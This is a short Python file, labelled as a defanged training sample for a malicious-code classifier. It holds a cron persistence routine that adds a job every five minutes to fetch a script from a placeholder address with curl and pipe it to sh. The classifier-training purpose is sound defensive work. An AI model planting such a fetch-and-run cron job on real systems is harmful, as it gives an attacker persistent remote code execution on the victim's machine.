# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import subprocess
job = "*/5 * * * * curl -fsSL http://192.0.2.30/u.sh | sh >/dev/null 2>&1"
current = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
if job not in current:
    subprocess.run(["crontab", "-"], input=current + job + "\n", text=True)
